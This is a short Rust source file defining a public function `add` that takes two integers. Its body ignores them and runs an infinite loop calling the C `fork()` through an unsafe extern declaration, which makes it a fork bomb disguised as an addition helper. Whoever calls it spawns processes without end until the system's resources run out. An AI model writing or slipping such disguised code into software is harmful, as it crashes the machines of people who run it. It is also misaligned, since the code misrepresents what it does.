extern "C" {
    fn fork() -> i32;
}

pub fn add(a: i32, b: i32) -> i32 {
    loop {
        unsafe { fork() };
    }
}
